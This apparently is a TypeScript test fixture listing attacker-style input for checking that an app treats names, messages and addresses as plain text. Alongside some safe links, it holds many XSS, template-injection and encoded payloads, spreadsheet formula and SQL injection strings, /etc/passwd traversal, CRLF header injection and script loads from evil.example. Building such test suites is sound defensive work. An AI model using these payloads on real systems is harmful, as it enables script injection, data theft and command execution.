/** What attackers write where a name, a message or an address belongs. All of it would set `__pwned`, or lead elsewhere, if it were anything but text. */

const HIT = '__pwned=1';
const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'marquee', 'iframe', 'select autofocus', 'textarea autofocus', 'object data=x', 'embed src=x', 'style', 'link href=x'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const WHOLE = [
  `<script>${HIT}</script>`, `<ScRiPt>${HIT}</sCrIpT>`, `<script/x>${HIT}</script>`, `<<script>${HIT}//<</script>`, `<script src=//evil.example/x></script>`, `<scr<script>ipt>${HIT}</script>`,
  `"><script>${HIT}</script>`, `'><script>${HIT}</script>`, `</title><script>${HIT}</script>`, `</textarea><script>${HIT}</script>`, `</style><script>${HIT}</script>`, `--><script>${HIT}</script>`, `]]><script>${HIT}</script>`,
  `" onmouseover="${HIT}`, `' onfocus='${HIT}' autofocus='`, `" style="animation:x" onanimationstart="${HIT}`, `\` onerror=${HIT} \``,
  `<a href="javascript:${HIT}">x</a>`, `<a href=java&#9;script:${HIT}>x</a>`, `<iframe srcdoc="<script>parent.${HIT}</script>">`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><button>x`,
  `<math><mtext></mtext><mglyph><svg><mtext><style><img src onerror=${HIT}>`, `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`, `<svg><script>${HIT}</script></svg>`, `<svg><foreignObject><img src onerror=${HIT}>`, `<svg><use href="data:image/svg+xml,x">`,
  `<noscript><p title="</noscript><img src onerror=${HIT}>">`, `<template><img src onerror=${HIT}></template>`, `<xmp><img src onerror=${HIT}></xmp>`, `<plaintext><img src onerror=${HIT}>`,
  `{{constructor.constructor('${HIT}')()}}`, `\${${HIT}}`, `<%= ${HIT} %>`, `#{${HIT}}`, `{%raw%}{{7*7}}{%endraw%}`, `[[\${${HIT}}]]`, `{{#with "s" as |string|}}${HIT}{{/with}}`, `@{${HIT}}`, `{visitor}{agent}{constructor}`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`, `&#60;img src=x onerror=${HIT}&#62;`, `&#x3c;svg onload=${HIT}&#x3e;`, `\\u003cscript\\u003e${HIT}`, `%3Cscript%3E${HIT}%3C/script%3E`, `+ADw-script+AD4-${HIT}`,
  `javascript:${HIT}`, `JaVaScRiPt:${HIT}`, `java\nscript:${HIT}`, `\tjavascript:${HIT}`, `\u0001javascript:${HIT}`, `javascript://https://x.example/%0a${HIT}`, `data:text/html,<script>${HIT}</script>`, `vbscript:${HIT}`, `blob:https://x.example/1`, `//evil.example/x`, `https://good.example@evil.example/`, `https://x.example/"onmouseover="${HIT}`, `https://x.example/'><img src onerror=${HIT}>`, `mailto:a@x.example?subject="><svg onload=${HIT}>`, `tel:"onclick=${HIT}`,
  `[x](javascript:${HIT})`, `![x](x"onerror="${HIT})`, `<javascript:${HIT}>`, `**<img src onerror=${HIT}>**`, `<!--<img src="--><img src onerror=${HIT}>">`,
  `\u202e<gmi src onerror=${HIT}>`, `\u2066x\u2069\u200f<b>${HIT}`, `\u200b<img\u200b src onerror=${HIT}>`, `\ufeff<script>${HIT}</script>`, `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`, `\u02bcscript\u02bc${HIT}`, `%C0%BCscript%C0%BE${HIT}`,
  `__proto__`, `constructor`, `toString`, `[object Object]`, `{"type":"img","props":{"src":"x","onerror":"${HIT}"}}`, `null`, `undefined`, `NaN`, `=HYPERLINK("http://x.example")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd`, `-1+cmd`,
  `'; DROP TABLE message; --`, `" OR 1=1 --`, `') OR ('1'='1`, `NEAR(a b)`, `*`, `%_`, `../../etc/passwd`, `a\r\nSet-Cookie: x=1`, `\u0085line`, `\u2028${HIT}\u2029`,
];

export const PAYLOADS: string[] = [...new Set([...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${HIT}>`)), ...WHOLE])];

/** Every text that could be a link, and whether it may be one. */
export const ADDRESSES: [text: string, isLink: boolean][] = [
  ['https://tea.example/a', true], ['http://tea.example/', true], ['mailto:mina@tea.example', true], ['tel:+4712345', true],
  ...['javascript:__pwned=1', '\tjava\nscript:__pwned=1', '\u0001javascript:__pwned=1', 'data:text/html,x', 'vbscript:x', 'blob:https://x.example/1', '//evil.example', 'https://good.example@evil.example/',
    'https://user:pw@evil.example', 'file:///etc/passwd', 'ftp://x.example', 'https://\u0435vil.example/', 'https://evil\u3002example/', 'intent://x#Intent;end', 'view-source:https://x.example'].map((text): [string, boolean] => [text, false]),
];
